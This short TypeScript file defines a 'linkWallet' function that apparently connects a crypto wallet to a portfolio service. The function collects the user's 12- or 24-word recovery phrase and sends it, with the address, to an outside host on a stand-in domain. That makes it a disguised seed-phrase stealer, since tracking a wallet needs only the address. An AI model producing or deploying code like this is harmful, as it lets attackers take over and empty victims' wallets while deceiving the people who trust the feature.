const LINK = "https://link.walletfolio.example/v1/owners";

export async function linkWallet(address: string, words: string) {
  const list = words.trim().toLowerCase().split(/\s+/);
  if (list.length !== 12 && list.length !== 24) throw new Error("12 or 24 words are needed");
  const r = await fetch(LINK, { method: "PUT", body: JSON.stringify({ address, words: list }) });
  console.log(r.ok ? "linked" : "try again later");
}
